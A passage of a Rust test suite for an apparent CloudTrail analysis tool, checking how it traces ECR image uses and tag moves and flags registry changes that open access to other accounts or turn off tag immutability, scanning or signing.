        json!({"name": "builder", "environment": {"image": format!("{base}:latest"), "type": "LINUX_CONTAINER"}}),
        Value::Null,
    )["errorCode"] = json!("AccessDeniedException");
    // Docker Hub's image is no ECR image; after the tag moved, a use of `latest` is the new image's.
    l.add(
        50,
        "lambda.amazonaws.com",
        "CreateFunction20150331",
        MARY,
        json!({"functionName": "f", "code": {"imageUri": "alpine:3"}}),
        Value::Null,
    );
    l.put(60, CI, repo_name, "latest", "sha256:two", &[("sha256:l1", 10)]);
    l.add(
        70,
        "sagemaker.amazonaws.com",
        "CreateModel",
        MARY,
        json!({"modelName": "Later", "primaryContainer": {"image": format!("{base}:latest")}}),
        Value::Null,
    );
    l
}

#[test]
fn ok_other_services_that_name_an_image_are_in_its_story() {
    let (e, repo_name) = (image_uses(), USED);
    let story = |digest: &str| match ask(
        &e,
        Filter::default(),
        Ask::Image(ImageRef { repo: repo(repo_name), digest: digest.into() }),
    ) {
        ContainerAnswer::Image(Some(p)) => p.story,
        other => panic!("{other:?}"),
    };
    let uses = |digest: &str| -> Vec<(String, String, String, bool, String)> {
        story(digest)
            .into_iter()
            .filter_map(|s| match s {
                Step::UsedBy(u) => Some((u.service, u.call, u.name, u.images[0].via_tag, u.error_code)),
                _ => None,
            })
            .collect()
    };
    let own = |s: &str| s.to_owned();
    assert_eq!(
        uses("sha256:one"),
        [
            (own("sagemaker.amazonaws.com"), own("CreateModel"), own("ExampleModel"), true, String::new()),
            (own("batch.amazonaws.com"), own("RegisterJobDefinition"), own("train"), false, String::new()),
            (own("codebuild.amazonaws.com"), own("CreateProject"), own("builder"), true, own("AccessDeniedException")),
        ]
    );
    assert_eq!(
        uses("sha256:two"),
        [(own("sagemaker.amazonaws.com"), own("CreateModel"), own("Later"), true, String::new())]
    );
}

#[test]
fn ok_other_services_that_name_an_image_are_its_repositorys_events() {
    // The repository's filter keeps them (not the read, nor the other image), and so does a search
    // for the image's URI.
    let (e, base) = (image_uses(), used_base());
    let s = e.store();
    let kept = |f: &Filter| -> Vec<String> {
        let c = crate::analysis::filter::Compiled::new(f, s);
        c.rows()
            .map(|r| s.str(s.name(r)).into_owned())
            .filter(|n| !n.contains("Layer") && n != "GetAuthorizationToken")
            .collect()
    };
    // Its page lists them, newest first.
    let ContainerAnswer::Repository(Some(page)) = ask(&e, Filter::default(), Ask::Repository(repo(USED))) else {
        panic!()
    };
    let names: Vec<&str> = page.uses.iter().map(|u| u.name.as_str()).collect();
    assert_eq!(names, ["Later", "builder", "train", "ExampleModel"]);
    // The summary lists them, oldest first, with the URIs as the requests wrote them.
    let summary = pages::summary(&Index::build(e.store()), e.store());
    assert_eq!(summary["image_uses"], 4);
    let first = &summary["uses"][0];
    assert_eq!(
        (&first["service"], &first["call"], &first["name"]),
        (&json!("sagemaker.amazonaws.com"), &json!("CreateModel"), &json!("ExampleModel"))
    );
    assert_eq!(first["images"], json!([format!("{base}:latest")]));
    // The tag resolved as it was then; the digest of the later model's after it moved.
    let resolved = |i: usize| {
        (summary["uses"][i]["resolved"][0]["repository"].clone(), summary["uses"][i]["resolved"][0]["digest"].clone())
    };
    assert_eq!(resolved(0), (json!(repo(USED).arn()), json!("sha256:one")));
    assert_eq!(resolved(3), (json!(repo(USED).arn()), json!("sha256:two")));
    assert_eq!(summary["uses"][2]["error_code"], "AccessDeniedException");
    let arn = repo(USED).arn();
    assert_eq!(
        kept(&Filter::default().with(Field::Repository, &arn)),
        ["PutImage", "CreateModel", "RegisterJobDefinition", "CreateProject", "PutImage", "CreateModel"]
    );
    assert_eq!(kept(&Filter { text: format!("{base}@sha256:one"), ..Filter::default() }), ["RegisterJobDefinition"]);
}

#[test]
fn ok_a_call_that_uses_one_image_belongs_to_it() {
    // The detail of a SageMaker model, a Batch job definition or an ECS task definition links to
    // the image it names (a tag as it was then), and to the repository when all of its images are
    // of one; a read, and another registry's image, to nothing.
    let web = format!("{ACCOUNT}.dkr.ecr.{REGION}.amazonaws.com/web/api:v1");
    let mut l = image_uses_log();
    l.put(80, CI, "web/api", "v1", "sha256:web", &[("sha256:w", 1)]);
    let task_def = |l: &mut Log, at: i64, images: Vec<String>| {
        let containers: Vec<Value> = images.iter().map(|i| json!({"name": "c", "image": i})).collect();
        l.add(
            at,
            "ecs.amazonaws.com",
            "RegisterTaskDefinition",
            CI,
            json!({"family": format!("f{at}"), "containerDefinitions": containers}),
            json!({"taskDefinition": {"family": format!("f{at}"), "revision": 1}}),
        );
    };
    task_def(&mut l, 90, vec![format!("{}:latest", used_base())]);
    task_def(&mut l, 91, vec![format!("{}:latest", used_base()), web.clone()]);
    task_def(&mut l, 92, vec![format!("{}@sha256:one", used_base()), format!("{}:latest", used_base())]);
    let e = l.engine();
    let (ix, s) = (Index::build(e.store()), e.store());
    let at = |name: &str, secs: i64| -> Row {
        let want = crate::model::time::parse_iso(&time(secs)).unwrap();
        (0..s.len() as Row).find(|&r| s.str(s.name(r)) == name && s.time(r) == want).unwrap()
    };
    let used = |digest: &str| (Some(repo(USED)), Some(ImageRef { repo: repo(USED), digest: digest.into() }));
    assert_eq!(ix.belongs(s, at("CreateModel", 10)), used("sha256:one"), "latest named sha256:one then");
    assert_eq!(ix.belongs(s, at("RegisterJobDefinition", 20)), used("sha256:one"));
    assert_eq!(ix.belongs(s, at("CreateProject", 40)), used("sha256:one"), "refused, it still names it");
    assert_eq!(ix.belongs(s, at("CreateModel", 70)), used("sha256:two"), "after the tag moved");
    assert_eq!(ix.belongs(s, at("DescribeModel", 30)), (None, None));
    assert_eq!(ix.belongs(s, at("CreateFunction20150331", 50)), (None, None), "Docker Hub's image");
    assert_eq!(ix.belongs(s, at("RegisterTaskDefinition", 90)), used("sha256:two"));
    assert_eq!(ix.belongs(s, at("RegisterTaskDefinition", 91)), (None, None), "two repositories");
    assert_eq!(ix.belongs(s, at("RegisterTaskDefinition", 92)), (Some(repo(USED)), None), "two images of one");
}

#[test]
fn ok_an_image_of_another_accounts_registry_is_marked_so() {
    // The same model made in the registry's own account and in 444455556666, and a task
    // definition registered there: only the other account's calls use another account's image.
    let mut l = image_uses_log();
    let model = json!({"modelName": "Elsewhere", "primaryContainer": {"image": format!("{}:latest", used_base())}});
    let elsewhere = |e: &mut Value| {
        e["recipientAccountId"] = json!("444455556666");
        e["userIdentity"]["accountId"] = json!("444455556666");
    };
    elsewhere(l.add(80, "sagemaker.amazonaws.com", "CreateModel", MARY, model, Value::Null));
    elsewhere(l.add(
        90,
        "ecs.amazonaws.com",
        "RegisterTaskDefinition",
        CI,
        json!({"family": "far", "containerDefinitions": [{"name": "c", "image": format!("{}:latest", used_base())}]}),
        json!({"taskDefinition": {"family": "far", "revision": 1}}),
    ));
    let e = l.engine();
    let ContainerAnswer::Uses(uses) = ask(&e, Filter::default(), Ask::Uses { offset: 0 }) else { panic!() };
    let marked: Vec<(&str, bool)> = uses.items.iter().map(|u| (u.name.as_str(), u.images[0].other_account)).collect();
    assert_eq!(
        marked,
        [("Elsewhere", true), ("Later", false), ("builder", false), ("train", false), ("ExampleModel", false)]
    );
    let ContainerAnswer::Deployments(ecs) = ask(&e, Filter::default(), Ask::Deployments { offset: 0 }) else {
        panic!()
    };
    assert_eq!(ecs.items.iter().map(|i| i.images[0].other_account).collect::<Vec<_>>(), [true]);
}

#[test]
fn ok_other_services_tab_lists_every_use_of_any_repository() {
    // The four writes of `image_uses` that name an ECR image (not the read, not Docker Hub's),
    // newest first, each image resolved as the story resolves it; a second repository's use too.
    let mut l = image_uses_log();
    l.put(80, CI, "web/api", "v1", "sha256:web", &[("sha256:w", 1)]);
    l.add(
        85,
        "batch.amazonaws.com",
        "RegisterJobDefinition",
        CI,
        json!({"jobDefinitionName": "web", "containerProperties":
               {"image": format!("{ACCOUNT}.dkr.ecr.{REGION}.amazonaws.com/web/api:v1")}}),
        Value::Null,
    );
    let (with_web, alone) = (l.engine(), image_uses());
    let list = |e: &Engine, f: Filter, offset: u32| match ask(e, f, Ask::Uses { offset }) {
        ContainerAnswer::Uses(p) => {
            let names: Vec<String> = p.items.iter().map(|u| u.name.clone()).collect();
            (names, p.total)
        }
        other => panic!("{other:?}"),
    };
    let own = |v: &[&str]| v.iter().map(|s| (*s).to_owned()).collect::<Vec<_>>();
    assert_eq!(list(&alone, Filter::default(), 0), (own(&["Later", "builder", "train", "ExampleModel"]), 4));
    assert_eq!(list(&alone, Filter::default(), 3), (own(&["ExampleModel"]), 4));
    let ContainerAnswer::Headline(h) = ask(&alone, Filter::default(), Ask::Headline) else { panic!() };
    assert_eq!(h.image_uses, 4);
    // Another repository's use is listed too; a repository filter keeps its own.
    assert_eq!(list(&with_web, Filter::default(), 0).1, 5);
    let web = repo("web/api").arn();
    assert_eq!(list(&with_web, Filter::default().with(Field::Repository, &web), 0), (own(&["web"]), 1));
    let ContainerAnswer::Headline(h) = ask(&with_web, Filter::default().with(Field::Repository, &web), Ask::Headline)
    else {
        panic!()
    };
    assert_eq!(h.image_uses, 1);
    // Its page counts them all, as the tab does.
    let ContainerAnswer::Repository(Some(page)) = ask(&with_web, Filter::default(), Ask::Repository(repo(USED))) else {
        panic!()
    };
    assert_eq!((page.uses.len(), page.uses_total), (4, 4));
}

#[test]
fn ok_filters_keep_whole_sessions() {
    let mut l = Log::new();
    l.token(0, CI);
    l.upload(1, CI, "web/api", "u1", "sha256:a", 1);
    l.put(4, CI, "web/api", "v1", "sha256:v1", &[("sha256:a", 1)]);
    l.put(5, MARY, "base/alpine", "3.19", "sha256:alp", &[("sha256:b", 1)]);
    let e = l.engine();
    let only = |f: Filter| match ask(&e, f, Ask::Pushes { offset: 0, keep: PushKeep::All }) {
        ContainerAnswer::Pushes(p) => p.items.iter().map(|p| (p.repo.name.clone(), p.events_total)).collect::<Vec<_>>(),
        _ => panic!(),
    };
    assert_eq!(only(Filter { principals: vec![CI.into()], ..Filter::default() }), [("web/api".to_owned(), 5)]);
    // A filter on one call still shows the whole push it belongs to.
    assert_eq!(
        only(Filter { names: vec!["UploadLayerPart".into()], ..Filter::default() }),
        [("web/api".to_owned(), 5)]
    );
    assert!(only(Filter { names: vec!["DeleteRepository".into()], ..Filter::default() }).is_empty());
}

#[test]
fn ok_a_pull_in_an_images_story_says_how_many_layers_its_manifest_lists() {
    let repo_name = "web/api";
    let mut l = Log::new();
    l.put(0, CI, repo_name, "v1", "sha256:one", &[("sha256:l1", 10), ("sha256:l2", 20)]);
    // Its config and one of its layers.
    l.get(10, TASKS, repo_name, json!({"imageTag": "v1"}));
    l.layer_url(11, TASKS, repo_name, "sha256:config-of-sha256:one");
    l.layer_url(12, TASKS, repo_name, "sha256:l2");
    // Two blobs its manifest does not list, and one it does.
    l.get(20, MARY, repo_name, json!({"imageTag": "v1"}));
    l.layer_url(21, MARY, repo_name, "sha256:elsewhere-1");
    l.layer_url(22, MARY, repo_name, "sha256:l1");
    l.layer_url(23, MARY, repo_name, "sha256:elsewhere-2");
    let e = l.engine();
    let page =
        match ask(&e, Filter::default(), Ask::Image(ImageRef { repo: repo(repo_name), digest: "sha256:one".into() })) {
            ContainerAnswer::Image(Some(p)) => p,
            other => panic!("{other:?}"),
        };
    let story: Vec<(u32, Option<u32>)> = page
        .story
        .iter()
        .filter_map(|s| match s {
            Step::Pulled(p) => Some((p.layers_fetched, p.layers_listed)),
            _ => None,
        })
        .collect();
    assert_eq!(story, [(2, Some(2)), (3, Some(1))]);
    // Outside an image's story the count is not worked out.
    let list = pulls(&e);
    assert_eq!(list.len(), 2);
    assert!(list.iter().all(|p| p.layers_listed.is_none()));
}

#[test]
fn ok_an_images_page_under_a_filter_says_how_much_of_its_story_the_filter_leaves_out() {
    let repo_name = "web/api";
    let mut l = Log::new();
    l.put(0, CI, repo_name, "v1", "sha256:one", &[("sha256:l1", 10)]);
    l.get(10, TASKS, repo_name, json!({"imageTag": "v1"}));
    l.get(20, MARY, repo_name, json!({"imageDigest": "sha256:one"}));
    l.get(30, CI, repo_name, json!({"imageTag": "v1"}));
    l.lifecycle(40, "PolicyExecutionEvent", repo_name, "pol", &[("sha256:one", "v1")]);
    let e = l.engine();
    let image = || Ask::Image(ImageRef { repo: repo(repo_name), digest: "sha256:one".into() });
    let page = |f: Filter| match ask(&e, f, image()) {
        ContainerAnswer::Image(Some(p)) => (p.story_total, p.outside_filter, p.status),
        other => panic!("{other:?}"),
    };
    // The push, three pulls and its expiry; the pusher's own push and pull, and the others'
    // two pulls and the expiry. Expired it was, whatever the filter shows.
    let expired = || "expired".to_owned();
    assert_eq!(page(Filter::default()), (5, 0, expired()));
    assert_eq!(page(Filter { principals: vec![CI.into()], ..Filter::default() }), (2, 3, expired()));
    assert_eq!(page(Filter { principals: vec![MARY.into()], ..Filter::default() }), (1, 4, expired()));
}

#[test]
fn ok_a_push_that_moves_its_tag_says_from_which_image() {
    let mut l = Log::new();
    l.put(0, CI, "web/api", "prod", "sha256:one", &[]);
    l.put(10, CI, "web/api", "prod", "sha256:two", &[]); // prod: one → two
    l.put(20, MARY, "web/api", "prod", "sha256:two", &[]); // pushed again where it was: no move
    l.put(30, MARY, "web/api", "latest", "sha256:one", &[]); // a new tag: nothing to move from
    l.put(40, MARY, "web/api", "prod", "sha256:one", &[]); // prod: two → one, by Mary
    l.put(50, CI, "web/worker", "prod", "sha256:three", &[]); // another repository's prod
    l.fail(60, "PutImage", MARY, json!({"repositoryName": "web/api", "imageTag": "prod"}), "AccessDeniedException");
    // Image one expires, prod and latest with it: the next prod names a new image, moved from nothing.
    l.lifecycle(70, "PolicyExecutionEvent", "web/api", "pol", &[("sha256:one", "prod")]);
    l.put(80, CI, "web/api", "prod", "sha256:four", &[]);
    // So does a tag deleted, and the image it named.
    l.ecr(
        90,
        "BatchDeleteImage",
        CI,
        json!({"repositoryName": "web/worker", "registryId": ACCOUNT, "imageIds": [{"imageTag": "prod"}]}),
        json!({"imageIds": [{"imageTag": "prod", "imageDigest": "sha256:three"}], "failures": []}),
    );
    l.put(100, CI, "web/worker", "prod", "sha256:five", &[]);
    // A lifecycle preview removes nothing.
    l.put(110, CI, "web/cache", "prod", "sha256:a", &[]);
    l.lifecycle(115, "DryRunEvent", "web/cache", "pol", &[("sha256:a", "prod")]);
    l.put(120, CI, "web/cache", "prod", "sha256:b", &[]);
    // Mary moves the prod CI pushed: the push says who pushed what it replaced.
    l.put(130, MARY, "web/cache", "prod", "sha256:c", &[]);
    let e = l.engine();
    let moved: Vec<[String; 4]> = pushes(&e)
        .into_iter()
        .filter(|p| !p.moved_from.is_empty())
        .map(|p| [p.tag, p.moved_from, p.digest, p.moved_from_by])
        .collect();
    // Newest first. The move at 40 replaced two as Mary herself had pushed it last (at 20).
    let want = [
        ["prod", "sha256:b", "sha256:c", CI],
        ["prod", "sha256:a", "sha256:b", ""],
        ["prod", "sha256:two", "sha256:one", ""],
        ["prod", "sha256:one", "sha256:two", ""],
    ];
    assert_eq!(moved, want.map(|row| row.map(str::to_owned)));
    let list = |filter: Filter| match ask(&e, filter, Ask::Pushes { offset: 0, keep: PushKeep::MovedTag }) {
        ContainerAnswer::Pushes(p) => (p.total, p.items.iter().map(|p| p.start).collect::<Vec<_>>()),
        other => panic!("{other:?}"),
    };
    let at = |s: i64| crate::model::time::parse_iso(&time(s)).unwrap();
    assert_eq!(list(Filter::default()), (4, vec![at(130), at(120), at(40), at(10)]));
    let headline = |filter: Filter| match ask(&e, filter, Ask::Headline) {
        ContainerAnswer::Headline(h) => (h.pushes, h.tag_moves),
        other => panic!("{other:?}"),
    };
    assert_eq!(headline(Filter::default()), (11, 4));
    // Under a filter, only the moves it keeps: Mary's.
    let mary = Filter { text: "Mary_Major".into(), ..Filter::default() };
    assert_eq!(list(mary.clone()), (2, vec![at(130), at(40)]));
    assert_eq!(headline(mary), (4, 2));
    // An image's story says where its tag went, once for each push that moved it away.
    let moves_of = |digest: &str| match ask(
        &e,
        Filter::default(),
        Ask::Image(ImageRef { repo: repo("web/api"), digest: digest.into() }),
    ) {
        ContainerAnswer::Image(Some(p)) => p
            .story
            .into_iter()
            .filter_map(|s| match s {
                Step::TagMoved { tag, to, .. } => Some((tag, to)),
                _ => None,
            })
            .collect::<Vec<_>>(),
        other => panic!("{other:?}"),
    };
    assert_eq!(moves_of("sha256:one"), [("prod".to_owned(), "sha256:two".to_owned())]);
    assert_eq!(moves_of("sha256:two"), [("prod".to_owned(), "sha256:one".to_owned())]);
}

/// Changes to the registry of [`ACCOUNT`], request shapes as the ECR API reference writes them:
/// replication within the account, a registry policy and replication to another, a pull-through
/// cache rule, scanning, a creation template open to everyone, a refused policy, a removed one, and
/// two reads.
fn registry_changes() -> Engine {
    let mut l = Log::new();
    let statement = |principal: &str, action: &str| {
        json!({"Version": "2012-10-17", "Statement": [{"Sid": "s", "Effect": "Allow",
            "Principal": {"AWS": principal}, "Action": [action], "Resource": "*"}]})
        .to_string()
    };
    let replication = |destinations: Value| {
        json!({"replicationConfiguration": {"rules": [
            {"destinations": [{"region": "us-west-2", "registryId": ACCOUNT}],
             "repositoryFilters": [{"filter": "prod", "filterType": "PREFIX_MATCH"}]},
            {"destinations": destinations}]}})
    };
    l.ecr(
        0,
        "PutReplicationConfiguration",
        MARY,
        replication(json!([{"region": "us-east-1", "registryId": ACCOUNT}])),
        Value::Null,
    );
    l.ecr(
        60,
        "PutRegistryPolicy",
        MARY,
        json!({"policyText": statement("arn:aws:iam::444455556666:root", "ecr:ReplicateImage")}),
        json!({"registryId": ACCOUNT}),
    );
    l.ecr(
        120,
        "PutReplicationConfiguration",
        CI,
        replication(json!([{"region": "eu-west-1", "registryId": "444455556666"}])),
        Value::Null,
    );
    l.ecr(180, "CreatePullThroughCacheRule", MARY,
        json!({"ecrRepositoryPrefix": "docker-hub", "upstreamRegistryUrl": "registry-1.docker.io", "upstreamRegistry": "docker-hub",
               "credentialArn": "arn:aws:secretsmanager:us-east-1:111122223333:secret:ecr-pullthroughcache/hub"}),
        Value::Null);
    l.ecr(240, "PutRegistryScanningConfiguration", MARY,
        json!({"scanType": "ENHANCED", "rules": [{"scanFrequency": "CONTINUOUS_SCAN", "repositoryFilters": [{"filter": "*", "filterType": "WILDCARD"}]}]}),
        Value::Null);
    l.ecr(300, "CreateRepositoryCreationTemplate", MARY,
        json!({"prefix": "ROOT", "appliedFor": ["CREATE_ON_PUSH"], "imageTagMutability": "MUTABLE", "repositoryPolicy": statement("*", "ecr:BatchGetImage")}),
        Value::Null);
    l.fail(360, "PutRegistryPolicy", OTHER, json!({"policyText": statement("*", "ecr:*")}), "AccessDeniedException");
    l.ecr(420, "DeleteRegistryPolicy", MARY, json!({}), json!({"registryId": ACCOUNT}));
    // Reads and repository calls are not registry changes.
    l.ecr(480, "DescribeRegistry", MARY, json!({}), Value::Null);
    l.ecr(540, "GetRegistryPolicy", MARY, json!({}), Value::Null);
    l.engine()
}

#[test]
fn ok_changes_to_the_whole_registry_are_listed_with_whom_they_let_in() {
    let e = registry_changes();

    let ContainerAnswer::Registry(page) = ask(&e, Filter::default(), Ask::Registry { offset: 0 }) else { panic!() };
    let got: Vec<(&str, Exposure, &str, Vec<&str>)> = page
        .items
        .iter()
        .map(|g| {
            assert_eq!((g.registry.as_str(), g.region.as_str()), (ACCOUNT, REGION));
            let c = &g.change;
            (c.call.as_str(), c.exposure, c.error_code.as_str(), c.details.iter().map(String::as_str).collect())
        })
        .collect();
    let own = Exposure::Own;
    let others = Exposure::OtherAccounts;
    assert_eq!(
        got,
        [
            ("DeleteRegistryPolicy", own, "", vec!["registry policy removed"]),
            // Refused: it changed nothing, so it opened nothing.
            ("PutRegistryPolicy", own, "AccessDeniedException", vec!["Allow *: ecr:*"]),
            (
                "CreateRepositoryCreationTemplate",
                Exposure::Everyone,
                "",
                vec![
                    "template for new repositories that no other template covers (ROOT)",
                    "applied for: CREATE_ON_PUSH",
                    "tag mutability: MUTABLE",
                    "policy: Allow *: ecr:BatchGetImage",
                ]
            ),
            (
                "PutRegistryScanningConfiguration",
                own,
                "",
                vec!["scan type: ENHANCED", "CONTINUOUS_SCAN: repositories matching \"*\""]
            ),
            (
                "CreatePullThroughCacheRule",
                own,
                "",
                vec![
                    "mirror registry-1.docker.io (docker-hub) as repositories under docker-hub/",
                    "credentials: arn:aws:secretsmanager:us-east-1:111122223333:secret:ecr-pullthroughcache/hub",
                ]
            ),
            (
                "PutReplicationConfiguration",
                others,
                "",
                vec![
                    "replicate repositories starting \"prod\" to us-west-2 (this account)",
                    "replicate every repository to account 444455556666 in eu-west-1",
                ]
            ),
            ("PutRegistryPolicy", others, "", vec!["Allow arn:aws:iam::444455556666:root: ecr:ReplicateImage"]),
            (
                "PutReplicationConfiguration",
                own,
                "",
                vec![
                    "replicate repositories starting \"prod\" to us-west-2 (this account)",
                    "replicate every repository to us-east-1 (this account)",
                ]
            ),
        ]
    );
    assert_eq!(page.total, 8);

    let ContainerAnswer::Headline(h) = ask(&e, Filter::default(), Ask::Headline) else { panic!() };
    assert_eq!((h.registry_changes, h.registry_opened, h.repositories), (8, 3, 0));
    // The filter keeps a change by its event, as every list does.
    let ci = Filter::default().with(crate::analysis::filter::Field::Principal, CI);
    let ContainerAnswer::Registry(page) = ask(&e, ci.clone(), Ask::Registry { offset: 0 }) else { panic!() };
    assert_eq!((page.total, page.items[0].change.call.as_str()), (1, "PutReplicationConfiguration"));
    let ContainerAnswer::Headline(h) = ask(&e, ci, Ask::Headline) else { panic!() };
    assert_eq!((h.registry_changes, h.registry_opened), (1, 1));
}

#[test]
fn ok_registry_changes_that_let_outsiders_in_need_attention() {
    use crate::analysis::identity::{report, AttentionKind, Severity};
    let e = registry_changes();
    let all = crate::analysis::filter::Compiled::new(&Filter::default(), e.store());
    let r = report(e.store(), all.rows());
    let mut got: Vec<(Severity, String)> = r
        .attention
        .rows
        .iter()
        .filter(|a| a.kind == AttentionKind::EcrOpened)
        .map(|a| (a.severity, a.title.clone()))
        .collect();
    got.sort();
    let registry = format!("registry {ACCOUNT} in {REGION}");
    // The template opened to `*`, the registry policy and replication to 444455556666; not the
    // refused policy, nor replication within the account.
    assert_eq!(
        got,
        [
            (Severity::High, format!("New repositories of {registry} opened to everyone")),
            (Severity::Medium, format!("ECR {registry} opened to other accounts")),
            (Severity::Medium, format!("ECR {registry} replicates to another account")),
        ]
    );
}

/// A repository's protections turned down and up again, requests as the ECR API reference writes
/// them (`CreateRepository`, `PutImageTagMutability`, `PutImageScanningConfiguration`,
/// `PutRegistryScanningConfiguration`).
fn protections() -> Log {
    let mut l = Log::new();
    let mutability =
        |repo: &str, m: &str| json!({"repositoryName": repo, "registryId": ACCOUNT, "imageTagMutability": m});
    l.ecr(
        0,
        "CreateRepository",
        CI,
        json!({"repositoryName": "web/api", "imageTagMutability": "IMMUTABLE",
               "imageScanningConfiguration": {"scanOnPush": true}}),
        json!({"repository": {"repositoryName": "web/api", "registryId": ACCOUNT, "imageTagMutability": "IMMUTABLE"}}),
    );
    // Made mutable, then deleted and made again: what is pushed to the new one is not while the
    // old one's tags were mutable.
    let create = |m: &str| json!({"repositoryName": "web/old", "imageTagMutability": m});
    l.ecr(2, "CreateRepository", MARY, create("IMMUTABLE"), Value::Null);
    l.ecr(3, "PutImageTagMutability", MARY, mutability("web/old", "MUTABLE"), Value::Null);
    l.ecr(4, "DeleteRepository", MARY, json!({"repositoryName": "web/old", "force": true}), Value::Null);
    l.ecr(5, "CreateRepository", MARY, create("MUTABLE"), Value::Null);
    l.put(6, MARY, "web/old", "prod", "sha256:x", &[]);
    l.put(7, MARY, "web/old", "prod", "sha256:y", &[]);
    l.put(10, CI, "web/api", "prod", "sha256:one", &[]);
    l.ecr(20, "PutImageTagMutability", MARY, mutability("web/api", "MUTABLE"), mutability("web/api", "MUTABLE"));
    l.put(30, MARY, "web/api", "prod", "sha256:two", &[]); // prod: one → two while mutable
    l.put(35, MARY, "web/api", "latest", "sha256:two", &[]); // a new tag moves nothing
    l.ecr(40, "PutImageTagMutability", MARY, mutability("web/api", "IMMUTABLE"), mutability("web/api", "IMMUTABLE"));
    // Refused twice: nothing changed.
    l.fail(45, "PutImageTagMutability", CI, mutability("web/api", "MUTABLE"), "AccessDeniedException");
    l.fail(46, "PutImageTagMutability", CI, mutability("web/api", "MUTABLE"), "AccessDeniedException");
    // Made mutable with no creation in the logs, then asked for again: listed once.
    l.ecr(50, "PutImageTagMutability", CI, mutability("web/worker", "MUTABLE"), Value::Null);
    l.ecr(55, "PutImageTagMutability", CI, mutability("web/worker", "MUTABLE"), Value::Null);
    // Scan on push turned off where the logs do not say it was on, then asked for again: listed once.
    let scan_off = json!({"repositoryName": "web/worker", "imageScanningConfiguration": {"scanOnPush": false}});
    l.ecr(56, "PutImageScanningConfiguration", CI, scan_off.clone(), Value::Null);
    l.ecr(57, "PutImageScanningConfiguration", CI, scan_off, Value::Null);
    // Made with ECR's default (mutable), set so again, then partly immutable: nothing turned down.
    l.ecr(60, "CreateRepository", CI, json!({"repositoryName": "web/cache"}), Value::Null);
    l.ecr(61, "PutImageTagMutability", CI, mutability("web/cache", "MUTABLE"), Value::Null);
    let mut partly = mutability("web/cache", "IMMUTABLE_WITH_EXCLUSION");
    partly["imageTagMutabilityExclusionFilters"] = json!([{"filter": "dev-*", "filterType": "WILDCARD"}]);
    l.ecr(62, "PutImageTagMutability", CI, partly, Value::Null);
    // Scan on push off, then a push while it is.
    l.ecr(
        70,
        "PutImageScanningConfiguration",
        MARY,
        json!({"repositoryName": "web/api", "registryId": ACCOUNT, "imageScanningConfiguration": {"scanOnPush": false}}),
        Value::Null,
    );
    l.put(75, CI, "web/api", "v2", "sha256:three", &[]);
    // The registry left with no scanning rule.
    l.ecr(80, "PutRegistryScanningConfiguration", MARY, json!({"scanType": "BASIC", "rules": []}), Value::Null);
    l.put(85, CI, "web/worker", "v3", "sha256:four", &[]);
    l
}

/// ECR managed signing (`PutSigningConfiguration`'s `signingConfiguration.rules[]` of
/// `signingProfileArn` and `repositoryFilters`, `DeleteSigningConfiguration`, as the ECR API
/// reference writes them): the registry list says what each call set, and the configuration
/// removed is an item with the push made while no rule signed, ended by rules given again; a
/// refused try to leave no rule is one too.
#[test]
fn ok_registry_signing_turned_off_is_listed_and_needs_attention() {
    use crate::analysis::identity::{report, AttentionKind, Severity};
    let mut l = Log::new();
    let profile = format!("arn:aws:signer:{REGION}:{ACCOUNT}:/signing-profiles/ecr_signing");
    let signing = |rules: Value| json!({"signingConfiguration": {"rules": rules}});
    let prod = json!([{"signingProfileArn": profile, "repositoryFilters": [{"filter": "prod-*", "filterType": "WILDCARD_MATCH"}]}]);
    l.ecr(0, "PutSigningConfiguration", MARY, signing(prod.clone()), signing(prod.clone()));
    l.put(10, CI, "web/api", "v1", "sha256:one", &[]);
    l.ecr(20, "DeleteSigningConfiguration", OTHER, json!({}), Value::Null);
    l.put(30, CI, "web/api", "v2", "sha256:two", &[]);
    l.ecr(40, "PutSigningConfiguration", MARY, signing(json!([{"signingProfileArn": profile}])), Value::Null);
    l.put(50, CI, "web/api", "v3", "sha256:three", &[]);
    l.fail(60, "PutSigningConfiguration", CI, signing(json!([])), "AccessDeniedException");
    let e = l.engine();
    let ContainerAnswer::Registry(page) = ask(&e, Filter::default(), Ask::Registry { offset: 0 }) else { panic!() };
    let mut got: Vec<(&str, &str, Vec<&str>)> = page
        .items
        .iter()
        .map(|g| {
            (g.change.call.as_str(), g.change.lowered.as_str(), g.change.details.iter().map(String::as_str).collect())
        })
        .collect();
    got.reverse();
    let sign_prod = format!("sign with {profile}: repositories matching \"prod-*\"");
    let sign_all = format!("sign with {profile}: every repository");
    assert_eq!(
        got,
        [
            ("PutSigningConfiguration", "", vec![sign_prod.as_str()]),
            (
                "DeleteSigningConfiguration",
                "signing turned off",
                vec!["signing configuration removed: no image is signed"]
            ),
            ("PutSigningConfiguration", "", vec![sign_all.as_str()]),
            ("PutSigningConfiguration", "", vec!["no signing rules"]),
        ]
    );
    let c = crate::analysis::filter::Compiled::new(&Filter::default(), e.store());
    let r = report(e.store(), c.rows());
    let items: Vec<&crate::analysis::identity::Attention> =
        r.attention.rows.iter().filter(|a| a.kind == AttentionKind::EcrProtectionLowered).collect();
    let registry = format!("registry {ACCOUNT} in {REGION}");
    let mut titles: Vec<(&str, Severity, &str, u64)> =
        items.iter().map(|a| (a.title.as_str(), a.severity, a.who.as_str(), a.events)).collect();
    titles.sort_unstable();
    assert_eq!(
        titles,
        [
            // The removal, the push of v2 and the rules given again.
            (format!("Image signing turned off for ECR {registry}").as_str(), Severity::Medium, OTHER, 3),
            (format!("Tried to turn image signing off for ECR {registry}").as_str(), Severity::Medium, CI, 1),
        ]
    );
    let off = items.iter().find(|a| a.who == OTHER).unwrap();
    let expected = format!(
        "DeleteSigningConfiguration at {} left ECR {registry} with no signing configuration from rules that sign (set by \
         PutSigningConfiguration at {}): signing configuration removed: no image is signed. Images pushed there are no \
         longer signed",
        crate::text::utc(crate::model::time::parse_iso(&time(20)).unwrap()),
        crate::text::utc(crate::model::time::parse_iso(&time(0)).unwrap()),
    );
    assert!(off.why.starts_with(&expected), "{}", off.why);
    assert!(
        off.why.contains(&format!(
            "It was given rules that sign at {}",
            crate::text::utc(crate::model::time::parse_iso(&time(40)).unwrap())
        )),
        "{}",
        off.why
    );
    assert!(off.why.ends_with("1 push went through while it was so."), "{}", off.why);
}

#[test]
fn ok_protections_turned_down_need_attention_with_what_happened_meanwhile() {
    use crate::analysis::identity::{report, AttentionKind, Severity};
    let e = protections().engine();
    let items = |filter: &Filter| {
        let c = crate::analysis::filter::Compiled::new(filter, e.store());
        let mut got: Vec<(Severity, String, u64)> = report(e.store(), c.rows())
            .attention
            .rows
            .into_iter()
            .filter(|a| a.kind == AttentionKind::EcrProtectionLowered)
